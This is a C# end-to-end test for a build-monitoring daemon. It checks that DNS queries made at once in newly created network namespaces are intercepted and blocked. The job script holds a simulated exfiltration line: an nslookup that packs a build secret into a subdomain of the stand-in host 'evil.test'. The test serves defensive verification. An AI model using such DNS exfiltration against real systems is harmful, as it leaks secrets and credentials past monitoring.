using System.Diagnostics;
using System.Text.Json;
using BuildSentry.Testing;
using BuildSentry.Testing.Lab;
using static BuildSentry.EndToEnd.ScenarioTests;

namespace BuildSentry.EndToEnd;

/// <summary>
/// A prevent-mode job's first program in a network namespace it just entered: its very first action is a DNS query,
/// made before the daemon could have opened a forwarder there. The namespaces are made by the test, each with a DNS
/// server of its own on its loopback (the server the job asks, which records every datagram) and the registry's
/// address with a listener, so a query that escaped the forwarder would be seen and an allowed connect can succeed.
/// An <c>unshare --net</c> namespace reaches nothing at all, so it could not show a query escaping.
/// </summary>
[Collection(LabCollection.Name)]
public sealed class NewNamespaceTests(NetworkLabFixture fixture)
{
    private const int Rounds = 20;
    private const string AskedServer = "10.77.0.53";

    // In the namespace: the server the job asks (prints each datagram it gets) and a listener at the registry's address.
    private const string Recorder = """
        import socket, threading
        dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        dns.bind(("10.77.0.53", 53))
        web = socket.socket()
        web.bind(("198.18.0.10", 80))
        web.listen()
        def serve():
            while True:
                web.accept()[0].close()
        threading.Thread(target=serve, daemon=True).start()
        print("ready", flush=True)
        while True:
            print("query", dns.recvfrom(2048)[0].hex(), flush=True)
        """;

    private NetworkLab Lab => fixture.Lab;

    [Fact]
    public async Task A_first_program_that_queries_dns_at_once_in_a_new_namespace_is_answered_by_the_forwarder_every_time()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(1));
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("prevent"));
        await using var packets = await PacketCount.StartAsync("host 198.18.0.66 or port 53");
        var labels = new List<string>();
        for (var round = 0; round < Rounds; round++)
        {
            var label = $"{BuildJob.Secret.ToLowerInvariant()}{Random.Shared.Next(100_000, 999_999)}";
            labels.Add(label);
            await using var denied = await TestNamespace.CreateAsync($"bsnew{Environment.ProcessId}d{round}");
            await using var allowed = await TestNamespace.CreateAsync($"bsnew{Environment.ProcessId}a{round}");
            // A step first: the job is held from its placement, a few ms after its start (docs/operations.md). Then
            // busybox, a static binary, queries within a millisecond of its exec: sooner than a forwarder could open.
            using var job = BuildJob.Start(Lab, $"""
                sleep 0.2
                ip netns exec {denied.Name} busybox nslookup {label}.evil.test {AskedServer} 2>&1 | grep -o "NXDOMAIN"
                echo "allowed: $(ip netns exec {allowed.Name} busybox nslookup registry.test {AskedServer} 2>&1 | grep -o '198\.18\.0\.10')"
                ip netns exec {allowed.Name} python3 -c "import socket; socket.create_connection(('198.18.0.10', 80), timeout=5).close(); print('connected')"
                """);
            var result = await job.WaitAsync();

            var context = $"round {round}\n{result.StandardOutput}\n{result.StandardError}\n{string.Join("\n", daemon.AlertRecords())}\n{daemon.Output}";
            Assert.True(result.StandardOutput.Contains("NXDOMAIN", StringComparison.Ordinal), context);
            Assert.True(result.StandardOutput.Contains("allowed: 198.18.0.10", StringComparison.Ordinal), context);
            Assert.True(result.StandardOutput.Contains("connected", StringComparison.Ordinal), context);
            Assert.Empty(await denied.QueriesAsync());
            Assert.Empty(await allowed.QueriesAsync());
            var alert = await daemon.WaitForAlertAsync(a => Str(a, "job") == job.JobId && Str(a, "action") == "prevented");
            Assert.Contains(label, alert.ToString(), StringComparison.OrdinalIgnoreCase);
        }

        var leaked = await packets.StopAsync();
        Assert.DoesNotContain(leaked, p => labels.Any(l => p.Contains(l, StringComparison.OrdinalIgnoreCase)));
        Assert.DoesNotContain(Lab.DnsQueriesLogged(), q => labels.Any(l => q.Name.Contains(l, StringComparison.OrdinalIgnoreCase)));
        var sensors = JsonDocument.Parse((await daemon.CliAsync("status", "--json")).StandardOutput).RootElement.GetProperty("sensors");
        Assert.True(sensors.GetProperty("namespaceStopsContinued").GetInt64() >= 2 * Rounds, sensors.ToString());
        Assert.Equal(0, sensors.GetProperty("namespaceStopsTimedOut").GetInt64());
    }

    /// <summary>A network namespace with only its loopback, holding the asked server's and the registry's addresses,
    /// and the recorder in it; deleted at the end.</summary>
    private sealed class TestNamespace : IAsyncDisposable
    {
        private readonly Process _recorder;

        private TestNamespace(string name, Process recorder) => (Name, _recorder) = (name, recorder);

        public string Name { get; }

        public static async Task<TestNamespace> CreateAsync(string name)
        {
            await IpAsync("netns", "add", name);
            await IpAsync("-n", name, "link", "set", "lo", "up");
            await IpAsync("-n", name, "addr", "add", $"{AskedServer}/32", "dev", "lo");
            await IpAsync("-n", name, "addr", "add", "198.18.0.10/32", "dev", "lo");
            var recorder = Command.Start("ip", ["netns", "exec", name, "python3", "-c", Recorder]);
            if (await recorder.StandardOutput.ReadLineAsync() != "ready")
            {
                Assert.Fail($"the recorder in {name} did not start: {await recorder.StandardError.ReadToEndAsync()}");
            }

            return new TestNamespace(name, recorder);
        }

        /// <summary>The datagrams the asked server got (hex), once the recorder is stopped.</summary>
        public async Task<IReadOnlyList<string>> QueriesAsync()
        {
            _recorder.Kill();
            var output = await _recorder.StandardOutput.ReadToEndAsync();
            return [.. output.Split('\n', StringSplitOptions.RemoveEmptyEntries)];
        }

        public async ValueTask DisposeAsync()
        {
            if (!_recorder.HasExited)
            {
                _recorder.Kill();
            }

            await _recorder.WaitForExitAsync();
            _recorder.Dispose();
            await Command.RunAsync("ip", ["netns", "del", Name]);
        }

        private static async Task IpAsync(params string[] arguments)
        {
            var result = await Command.RunAsync("ip", arguments);
            Assert.True(result.ExitCode == 0, $"ip {string.Join(' ', arguments)}: {result.StandardError}");
        }
    }
}
